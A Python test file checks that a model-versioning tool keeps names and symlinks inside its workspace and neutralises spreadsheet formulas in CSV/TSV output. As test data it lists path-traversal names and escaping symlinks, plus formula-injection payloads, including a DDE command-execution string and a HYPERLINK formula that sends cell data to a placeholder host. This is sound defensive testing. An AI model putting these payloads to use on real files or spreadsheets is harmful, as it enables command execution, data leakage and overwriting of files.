"""Names of versions and links stay inside the workspace, whatever they are called and wherever they lead."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from manners.cli import main
from manners.errors import MannersError
from manners.models import versions
from manners.store.files.rowfiles import read_rows, write_rows
from manners.types import VersionKind
from manners.workspace import Workspace, atomic_write

OUT = ("../x", "../../etc", "/etc", "..", ".", "", "models/../../x", "policy-1/../../../x", "a/b", "a\\b", "~", "-x")
ODD = ("policy-1\n", "policy\x1b[31m", "policy-1 ", "\u202epolicy", "policy-1\x00", "x" * 300)


def version(folder: Path) -> None:
    folder.mkdir(parents=True)
    described = versions.Version(folder.name, VersionKind.POLICY, "b", "h", 1, "t", "float32", "now")
    versions.write_description(described, folder)


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    made = Workspace.create(tmp_path / "ws")
    version(made.models / "policy-1")
    version(tmp_path / "x")
    version(tmp_path / "ws" / "x")
    return made


@pytest.mark.parametrize("name", [*OUT, *ODD])
def test_a_name_that_leads_out_is_no_version(
    workspace: Workspace, capfd: pytest.CaptureFixture[str], tmp_path: Path, name: str
) -> None:
    with pytest.raises(MannersError, match="there is no version"):
        versions.describe(workspace, name)
    before = sorted(tmp_path.rglob("*"))
    for command in (["promote", name], ["export", name, str(tmp_path / "out")]):
        if not name.startswith("-") and "\x00" not in name:
            assert main(["models", *command, "--workspace", str(workspace.root)]) == 1
    assert workspace.current_policy() == "initial" and sorted(tmp_path.rglob("*")) == before


def test_a_link_that_leads_out_is_refused_and_one_that_stays_is_not(workspace: Workspace, tmp_path: Path) -> None:
    (workspace.models / "policy-2").symlink_to(tmp_path / "x")
    (workspace.models / "policy-1").rename(workspace.models / "kept")
    (workspace.models / "policy-1").symlink_to(workspace.models / "kept")
    (workspace.models / "policy-4").mkdir()
    (workspace.models / "policy-4" / "version.json").symlink_to(tmp_path / "x" / "version.json")
    for name in ("policy-2", "policy-4"):
        with pytest.raises(MannersError, match="is a link that leads out of"):
            versions.describe(workspace, name)
    assert versions.describe(workspace, "policy-1").name == "policy-1"


def test_all_models_may_lie_elsewhere(workspace: Workspace, tmp_path: Path) -> None:
    workspace.models.rename(tmp_path / "large disk")
    workspace.models.symlink_to(tmp_path / "large disk")
    assert versions.describe(workspace, "policy-1").name == "policy-1"


def test_a_name_in_current_json_that_leads_out_is_no_version(workspace: Workspace) -> None:
    atomic_write(workspace.models / "current.json", json.dumps({"history": ["../../x"]}))
    with pytest.raises(MannersError, match="there is no version"):
        versions.describe(workspace, workspace.current_policy())


def test_what_is_written_replaces_a_link_and_not_what_it_leads_to(workspace: Workspace, tmp_path: Path) -> None:
    (tmp_path / "precious").write_text("precious")
    for name in ("report.html", "manners.toml"):
        (workspace.root / name).unlink(missing_ok=True)
        (workspace.root / name).symlink_to(tmp_path / "precious")
        atomic_write(workspace.root / name, "new")
    (tmp_path / "out.csv.part").symlink_to(tmp_path / "precious")
    (tmp_path / "out.csv").symlink_to(tmp_path / "precious")
    write_rows(tmp_path / "out.csv", {"prompt": str}, [{"prompt": "new"}])
    assert (tmp_path / "precious").read_text() == "precious"
    assert (tmp_path / "out.csv").read_text(encoding="utf-8-sig").startswith("prompt")


def test_a_link_called_like_something_half_written_takes_nothing_along(workspace: Workspace, tmp_path: Path) -> None:
    (tmp_path / "precious").mkdir()
    (tmp_path / "precious" / "x").write_text("precious")
    host = os.uname().nodename.partition(".")[0]
    link = workspace.root / f".x.{host}-999999999-abcd.partial"
    link.symlink_to(tmp_path / "precious")
    Workspace.open(workspace.root)
    assert (tmp_path / "precious" / "x").is_file() and not link.is_symlink()


# Spreadsheets

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\x0b=1", "\ufeff=1", "\u200b=1", "\xa0=1",
            "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\u22121", "'=1", " '=1", "=cmd|'/C calc'!A0",
            '=HYPERLINK("http://x?"&A1)', "\x00=1".replace("\x00", "\x01"))  # fmt: skip
BEGINS = set("=+-@\uff1d\uff0b\uff0d\uff20\u2212\t\r\n")


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_no_cell_begins_like_a_formula_and_all_come_back(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"x{suffix}"
    write_rows(path, {"prompt": str, "left": str}, [{"prompt": text, "left": f"x{text}"} for text in FORMULAS])
    cells = csv.reader(
        io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""), delimiter="\t" if "t" in suffix else ","
    )
    for row in list(cells)[1:]:
        for cell in row:
            stripped = "".join(c for c in cell if not c.isspace() and ord(c) >= 0x20 and c not in "\ufeff\u200b")
            assert cell[:1] not in BEGINS and stripped[:1] not in BEGINS, cell
    assert [fields["prompt"] for _, fields in read_rows(path) if isinstance(fields, dict)] == list(FORMULAS)


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00\r"), min_size=1), min_size=1, max_size=5))
def test_any_text_comes_back_from_a_sheet(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.mktemp("sheet") / "x.csv"
    write_rows(path, {"prompt": str, "left": str}, [{"prompt": "p", "left": text} for text in texts])
    assert [fields["left"] for _, fields in read_rows(path) if isinstance(fields, dict)] == texts
